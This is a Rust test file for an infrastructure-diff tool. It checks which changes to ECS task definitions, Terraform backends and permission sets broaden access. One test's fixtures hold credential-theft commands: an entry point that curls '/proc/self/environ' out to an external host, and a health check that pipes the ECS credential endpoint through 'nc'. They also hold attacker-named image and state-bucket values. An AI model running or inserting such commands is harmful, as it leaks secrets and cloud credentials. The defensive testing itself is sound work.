//! Field facts, class by class, both ways: widening broadens, narrowing is reported and
//! does not broaden, reordering is no change at all.

use super::*;

/// An EC2 task in a dev account, with what a container can be given.
const TASK: &str = r#"version = 1

[project]
name = "shop"
region = "eu-west-1"

[accounts.dev]
id = "111122223333"
env = "dev"

[accounts.prod]
id = "555566667777"
env = "prod"

[dev_access]
mode = "tagged"
max_session_duration = 3600

[developers]
attach_to_roles = ["Developer"]

[tasks.worker]
account = "dev"
compatibility = "EC2"
cpu = 256
memory = 512

[[tasks.worker.volumes]]
name = "data"
host = { source_path = "/srv/data" }

[[tasks.worker.volumes]]
name = "scratch"

[[tasks.worker.containers]]
name = "app"
image = "registry.example.com/app:1.0"
user = "1000"
readonly_root_filesystem = true
command = ["serve", "--port", "8080"]
environment = { LOG_LEVEL = "info", MODE = "worker" }
secrets = { DB = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/db", KEY = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/key" }
mount_points = [{ source_volume = "data", container_path = "/data", read_only = true }, { source_volume = "scratch", container_path = "/tmp" }]
linux_parameters = { capabilities = { drop = ["NET_RAW", "MKNOD"] } }
"#;

/// The one change of `old -> new`, as a line; and the diff's own verdict.
fn only(old: &str, new: &str) -> (String, bool) {
    let there = diff(old, new);
    let lines = lines(&there);
    assert_eq!(lines.len(), 1, "{lines:#?}");
    (lines[0].clone(), there.broadens)
}

/// `old -> new` broadens with exactly `forward` (kind and all), and `new -> old` is
/// exactly `backward` and does not broaden.
fn widens(old: &str, new: &str, forward: &str, backward: &str) {
    assert_eq!(only(old, new), (format!("{forward} BROADENS"), true));
    assert_eq!(only(new, old), (backward.to_string(), false));
}

const FAMILY: &str = "shop-worker";

#[test]
fn the_task_base_validates_and_reports_nothing_against_itself() {
    assert!(diff(TASK, TASK).is_empty());
}

#[test]
fn a_secret_added_or_repointed_is_exposure_that_broadens() {
    let prod = "arn:aws:ssm:eu-west-1:555566667777:parameter/prod/db";
    let more = edit(
        TASK,
        "secrets = { DB",
        &format!("secrets = {{ PROD = \"{prod}\", DB"),
    );
    let there = diff(TASK, &more);
    assert!(there.broadens);
    let exposure: Vec<String> = there.of_kind(Kind::Exposure).map(line).collect();
    assert_eq!(
        exposure,
        [format!(
            "exposure + {FAMILY}: container app: secret {prod}: - -> PROD BROADENS"
        )]
    );
    // The execution role reads it too: a grant.
    assert!(lines(&there)
        .iter()
        .any(|l| l.starts_with("perm +") && l.contains(prod)));
    let back = diff(&more, TASK);
    assert!(!back.broadens, "{:#?}", lines(&back));
    // Another parameter under the same name is a new secret read (and the old one gone).
    let repointed = edit(TASK, "parameter/shop/db", "parameter/shop/admin");
    let there = diff(TASK, &repointed);
    let exposure: Vec<&Change> = there.of_kind(Kind::Exposure).collect();
    assert_eq!(exposure.len(), 2, "{:#?}", lines(&there));
    assert!(exposure
        .iter()
        .any(|c| c.broadens && c.change == Mark::Added));
    // The same secret read into another variable: nothing new is exposed.
    let renamed = edit(TASK, "secrets = { DB =", "secrets = { DATABASE =");
    let (line, broadens) = only(TASK, &renamed);
    assert!(!broadens && line.contains("DB -> DATABASE"), "{line}");
}

#[test]
fn secrets_environment_and_mounts_in_another_order_are_no_change() {
    let reordered = edit(
        TASK,
        r#"secrets = { DB = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/db", KEY = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/key" }"#,
        r#"secrets = { KEY = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/key", DB = "arn:aws:ssm:eu-west-1:111122223333:parameter/shop/db" }"#,
    );
    let reordered = edit(
        &reordered,
        r#"environment = { LOG_LEVEL = "info", MODE = "worker" }"#,
        r#"environment = { MODE = "worker", LOG_LEVEL = "info" }"#,
    );
    let reordered = edit(
        &reordered,
        r#"mount_points = [{ source_volume = "data", container_path = "/data", read_only = true }, { source_volume = "scratch", container_path = "/tmp" }]"#,
        r#"mount_points = [{ source_volume = "scratch", container_path = "/tmp" }, { source_volume = "data", container_path = "/data", read_only = true }]"#,
    );
    let reordered = edit(
        &reordered,
        r#"drop = ["NET_RAW", "MKNOD"]"#,
        r#"drop = ["MKNOD", "NET_RAW"]"#,
    );
    let none = diff(TASK, &reordered);
    assert!(none.is_empty(), "{:#?}", lines(&none));
}

#[test]
fn an_environment_file_added_broadens() {
    let file = "arn:aws:s3:::prod-config-555566667777/app.env";
    let with = edit(
        TASK,
        "user = \"1000\"\n",
        &format!("user = \"1000\"\nenvironment_files = [\"{file}\"]\n"),
    );
    let there = diff(TASK, &with);
    assert_eq!(
        there.of_kind(Kind::Exposure).map(line).collect::<Vec<_>>(),
        [format!(
            "exposure + {FAMILY}: container app: environment file {file}: - -> s3 BROADENS"
        )]
    );
    assert!(!diff(&with, TASK).broadens);
}

#[test]
fn privileged_root_user_and_capabilities_broaden_and_their_reverse_does_not() {
    let privileged = edit(
        TASK,
        "user = \"1000\"\n",
        "user = \"1000\"\nprivileged = true\n",
    );
    widens(
        TASK,
        &privileged,
        &format!("exposure + {FAMILY}: container app: privileged: - -> true"),
        &format!("exposure - {FAMILY}: container app: privileged: true -> -"),
    );
    let root = edit(TASK, "user = \"1000\"", "user = \"0:0\"");
    widens(
        TASK,
        &root,
        &format!("exposure ~ {FAMILY}: container app: user: 1000 -> 0:0"),
        &format!("exposure ~ {FAMILY}: container app: user: 0:0 -> 1000"),
    );
    // No user: the image's own, often root.
    let unset = edit(TASK, "user = \"1000\"\n", "");
    widens(
        TASK,
        &unset,
        &format!("exposure - {FAMILY}: container app: user: 1000 -> -"),
        &format!("exposure + {FAMILY}: container app: user: - -> 1000"),
    );
    let admin = edit(
        TASK,
        "capabilities = { drop",
        "capabilities = { add = [\"SYS_ADMIN\"], drop",
    );
    widens(
        TASK,
        &admin,
        &format!("exposure + {FAMILY}: container app: capability added SYS_ADMIN: - -> SYS_ADMIN"),
        &format!("exposure - {FAMILY}: container app: capability added SYS_ADMIN: SYS_ADMIN -> -"),
    );
    // A capability no longer dropped is held again.
    let kept = edit(
        TASK,
        r#"drop = ["NET_RAW", "MKNOD"]"#,
        r#"drop = ["MKNOD"]"#,
    );
    widens(
        TASK,
        &kept,
        &format!("exposure - {FAMILY}: container app: capability dropped NET_RAW: NET_RAW -> -"),
        &format!("exposure + {FAMILY}: container app: capability dropped NET_RAW: - -> NET_RAW"),
    );
}

#[test]
fn a_writable_root_or_mount_broadens_and_read_only_does_not() {
    let writable = edit(TASK, "readonly_root_filesystem = true\n", "");
    widens(
        TASK,
        &writable,
        &format!("exposure - {FAMILY}: container app: read-only root filesystem: true -> -"),
        &format!("exposure + {FAMILY}: container app: read-only root filesystem: - -> true"),
    );
    let mount = edit(
        TASK,
        "container_path = \"/data\", read_only = true",
        "container_path = \"/data\", read_only = false",
    );
    widens(
        TASK,
        &mount,
        &format!("exposure ~ {FAMILY}: container app: mount data: [\"host directory\", \"/data ro\"] -> [\"host directory\", \"/data rw\"]"),
        &format!("exposure ~ {FAMILY}: container app: mount data: [\"host directory\", \"/data rw\"] -> [\"host directory\", \"/data ro\"]"),
    );
    // The same volume at another path: no new exposure, and reported.
    let moved = edit(
        TASK,
        "container_path = \"/data\"",
        "container_path = \"/srv\"",
    );
    let (line, broadens) = only(TASK, &moved);
    assert!(!broadens && line.starts_with("exposure ~"), "{line}");
}

#[test]
fn a_host_path_moved_out_broadens_and_into_a_subdirectory_does_not() {
    for (widened, why) in [
        ("/", "the host's root"),
        ("/var/run/docker.sock", "the Docker socket"),
        ("/etc", "a system directory"),
        ("/srv/database", "a sibling"),
    ] {
        let new = edit(
            TASK,
            "source_path = \"/srv/data\"",
            &format!("source_path = \"{widened}\""),
        );
        let there = diff(TASK, &new);
        let exposure: Vec<String> = there.of_kind(Kind::Exposure).map(line).collect();
        assert_eq!(
            exposure,
            [format!(
                "exposure ~ {FAMILY}: volume data: host path: /srv/data -> {widened} BROADENS"
            )],
            "{why}"
        );
    }
    let narrowed = edit(
        TASK,
        "source_path = \"/srv/data\"",
        "source_path = \"/srv/data/app\"",
    );
    let there = diff(TASK, &narrowed);
    assert!(!there.broadens, "{:#?}", lines(&there));
    assert_eq!(there.of_kind(Kind::Exposure).count(), 1);
}

#[test]
fn host_pid_and_ipc_broaden() {
    let host = edit(
        TASK,
        "memory = 512\n",
        "memory = 512\npid_mode = \"host\"\nipc_mode = \"host\"\n",
    );
    let there = diff(TASK, &host);
    assert_eq!(
        there.of_kind(Kind::Exposure).map(line).collect::<Vec<_>>(),
        [
            format!("exposure + {FAMILY}: ipc mode: - -> host BROADENS"),
            format!("exposure + {FAMILY}: pid mode: - -> host BROADENS"),
        ]
    );
    let back = diff(&host, TASK);
    assert!(!back.broadens && back.of_kind(Kind::Exposure).count() == 2);
}

#[test]
fn an_efs_file_system_mounted_broadens() {
    let efs = edit(
        TASK,
        "[[tasks.worker.volumes]]\nname = \"scratch\"\n",
        "[[tasks.worker.volumes]]\nname = \"scratch\"\n\n[[tasks.worker.volumes]]\nname = \"ledger\"\nefs_volume_configuration = { file_system_id = \"fs-0123456789abcdef0\", transit_encryption = \"ENABLED\" }\n",
    );
    let efs = edit(
        &efs,
        "{ source_volume = \"scratch\", container_path = \"/tmp\" }]",
        "{ source_volume = \"scratch\", container_path = \"/tmp\" }, { source_volume = \"ledger\", container_path = \"/ledger\" }]",
    );
    let there = diff(TASK, &efs);
    assert!(there.broadens);
    let broadening: Vec<String> = there
        .of_kind(Kind::Exposure)
        .filter(|c| c.broadens)
        .map(line)
        .collect();
    assert!(
        broadening
            .iter()
            .any(|l| l.contains("EFS file system: - -> fs-0123456789abcdef0")),
        "{broadening:#?}"
    );
    assert!(
        broadening.iter().any(|l| l.contains("mount ledger")),
        "{broadening:#?}"
    );
    let back = diff(&efs, TASK);
    assert!(
        back.changes.iter().all(|c| !c.broadens),
        "{:#?}",
        lines(&back)
    );
    // Transit encryption turned off broadens; on again does not.
    let plain = edit(
        &efs,
        "transit_encryption = \"ENABLED\"",
        "transit_encryption = \"DISABLED\"",
    );
    widens(
        &efs,
        &plain,
        &format!("exposure ~ {FAMILY}: volume ledger: EFS transit encryption: ENABLED -> DISABLED"),
        &format!("exposure ~ {FAMILY}: volume ledger: EFS transit encryption: DISABLED -> ENABLED"),
    );
}

#[test]
fn code_changes_are_reported_and_never_broaden() {
    let cases = [
        (
            "image = \"registry.example.com/app:1.0\"",
            "image = \"attacker.example.com/app:1.0\"",
            "code ~ shop-worker: container app: image: registry.example.com/app:1.0 -> attacker.example.com/app:1.0",
        ),
        (
            "command = [\"serve\", \"--port\", \"8080\"]",
            "command = [\"--port\", \"8080\", \"serve\"]",
            "code ~ shop-worker: container app: command: [\"serve\", \"--port\", \"8080\"] -> [\"--port\", \"8080\", \"serve\"]",
        ),
        (
            "user = \"1000\"\n",
            "user = \"1000\"\nentry_point = [\"sh\", \"-c\", \"curl -d @/proc/self/environ https://x.example\"]\n",
            "code + shop-worker: container app: entry point: - -> [\"sh\", \"-c\", \"curl -d @/proc/self/environ https://x.example\"]",
        ),
        (
            "user = \"1000\"\n",
            "user = \"1000\"\nhealth_check = { command = [\"CMD-SHELL\", \"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc x 80\"] }\n",
            "code + shop-worker: container app: health check command: - -> [\"CMD-SHELL\", \"curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc x 80\"]",
        ),
        (
            "LOG_LEVEL = \"info\"",
            "LOG_LEVEL = \"debug\"",
            "code ~ shop-worker: container app: environment LOG_LEVEL: info -> debug",
        ),
    ];
    for (from, to, expected) in cases {
        let new = edit(TASK, from, to);
        let there = diff(TASK, &new);
        assert_eq!(lines(&there), [expected.to_string()], "{to}");
        assert!(!there.broadens && !diff(&new, TASK).broadens);
    }
}

#[test]
fn longer_sessions_broaden_and_shorter_ones_do_not() {
    let long = edit(
        TASK,
        "max_session_duration = 3600",
        "max_session_duration = 43200",
    );
    let role = format!("{DEV}:role/shop-worker");
    widens(
        TASK,
        &long,
        &format!("session ~ {role}: max session duration (s): 3600 -> 43200"),
        &format!("session ~ {role}: max session duration (s): 43200 -> 3600"),
    );
}

#[test]
fn a_task_on_ec2_instead_of_fargate_is_exposed_to_its_host() {
    let fargate = edit(TASK, "compatibility = \"EC2\"\n", "");
    let fargate = edit(&fargate, "host = { source_path = \"/srv/data\" }\n", "");
    let there = diff(&fargate, TASK);
    assert!(there.broadens);
    assert!(lines(&there)
        .iter()
        .any(|l| l == &format!("exposure + {FAMILY}: launch type EC2: - -> EC2 BROADENS")));
    assert!(!diff(TASK, &fargate).broadens);
}

/// `{account_id}` in the backend's role gives each per-account root a role of its own: a
/// change to it is reported per root, as where that root's state is reached from.
#[test]
fn a_state_role_per_account_is_reported_per_root() {
    let backend = "\n[terraform]\nlayout = \"per-account\"\n\n[terraform.backend]\ntype = \"s3\"\nbucket = \"shop-state\"\nregion = \"eu-west-1\"\nkey_prefix = \"shop\"\nrole_arn = \"arn:aws:iam::999900001111:role/state\"\n";
    let old = format!("{TASK}{backend}");
    let new = edit(&old, "role/state\"", "role/state-{account_id}\"");
    let there = diff(&old, &new);
    assert!(!there.broadens);
    let lines = lines(&there);
    assert!(
        lines.contains(
            &"deployment + terraform/dev: state role: - -> arn:aws:iam::999900001111:role/state-111122223333"
                .to_string()
        ),
        "{lines:#?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.contains("layout and state: state role")),
        "{lines:#?}"
    );
}

#[test]
fn terraform_state_and_deploy_roles_are_deployment_and_never_broaden() {
    let backend = "\n[terraform.backend]\ntype = \"s3\"\nbucket = \"shop-state\"\nregion = \"eu-west-1\"\nkey_prefix = \"shop\"\n";
    let old = format!("{TASK}{backend}");
    let new = edit(
        &old,
        "bucket = \"shop-state\"\n",
        "bucket = \"attacker-state\"\nrole_arn = \"arn:aws:iam::999999999999:role/x\"\n",
    );
    let new = edit(
        &new,
        "[accounts.dev]\nid = \"111122223333\"\nenv = \"dev\"\n",
        "[accounts.dev]\nid = \"111122223333\"\nenv = \"dev\"\ndeploy_role_arn = \"arn:aws:iam::111122223333:role/elsewhere\"\n",
    );
    let there = diff(&old, &new);
    assert!(!there.broadens);
    assert!(
        there.changes.iter().all(|c| c.kind == Kind::Deployment),
        "{:#?}",
        lines(&there)
    );
    assert_eq!(
        lines(&there),
        [
            "deployment + dev: deploy role: - -> arn:aws:iam::111122223333:role/elsewhere",
            "deployment ~ layout and state: state bucket: shop-state -> attacker-state",
            "deployment + layout and state: state role: - -> arn:aws:iam::999999999999:role/x",
        ]
    );
}

/// The Identity Center base of the fixtures: a permission set for dev-a.
const CENTER: &str =
    include_str!("../../../tests/fixtures/diff/identity-center-group-added/old.toml");

#[test]
fn permission_sets_widen_by_policy_group_or_account_and_reorder_to_nothing() {
    let group = "\"906744a1c1-8b4c5a1e-2f3d-4e5f-9a8b-7c6d5e4f3a2b\"";
    let other = "\"906744a1c1-0f0e0d0c-0b0a-4998-8776-655443322110\"";
    let two_groups = edit(CENTER, group, &format!("{group}, {other}"));
    let two_accounts = edit(
        CENTER,
        "accounts = [\"dev-a\"]",
        "accounts = [\"dev-a\", \"dev-b\"]",
    );
    let admin = edit(
        CENTER,
        "managed_policies = [\"arn:aws:iam::aws:policy/job-function/ViewOnlyAccess\"]",
        "managed_policies = [\"arn:aws:iam::aws:policy/job-function/ViewOnlyAccess\", \"arn:aws:iam::aws:policy/AdministratorAccess\"]",
    );
    for (wider, what) in [
        (&two_groups, "assignment"),
        (&two_accounts, "account"),
        (&admin, "managed policy"),
    ] {
        let there = diff(CENTER, wider);
        assert!(there.broadens, "{what}: {:#?}", lines(&there));
        assert!(
            there
                .changes
                .iter()
                .filter(|c| c.broadens)
                .all(|c| c.kind == Kind::Access),
            "{what}: {:#?}",
            lines(&there)
        );
        let back = diff(wider, CENTER);
        assert!(
            !back.broadens && !back.is_empty(),
            "{what}: {:#?}",
            lines(&back)
        );
    }
    // Groups and policies in another order: nothing.
    let reordered = edit(
        &two_groups,
        &format!("{group}, {other}"),
        &format!("{other}, {group}"),
    );
    assert!(diff(&two_groups, &reordered).is_empty());
}

#[test]
fn renaming_an_account_or_a_task_key_is_no_access_change() {
    let renamed = edit(TASK, "[accounts.dev]", "[accounts.development]");
    let renamed = edit(&renamed, "account = \"dev\"", "account = \"development\"");
    let there = diff(TASK, &renamed);
    assert!(!there.broadens && !there.is_empty());
    assert!(
        there.changes.iter().all(|c| c.kind == Kind::Other),
        "{:#?}",
        lines(&there)
    );
    assert_eq!(there.accounts[0].renamed_from.as_deref(), Some("dev"));
    // A task renamed with its role name and family pinned: the same role and definition.
    let pinned = edit(
        TASK,
        "[tasks.worker]\naccount = \"dev\"\n",
        "[tasks.worker]\naccount = \"dev\"\nrole_name = \"shop-worker\"\nfamily = \"shop-worker\"\n",
    );
    let moved = pinned
        .replace("[tasks.worker]", "[tasks.runner]")
        .replace("[[tasks.worker.", "[[tasks.runner.");
    let there = diff(&pinned, &moved);
    assert!(!there.broadens && !there.is_empty(), "{:#?}", lines(&there));
    assert!(there.changes.iter().all(|c| c.kind == Kind::Other));
}
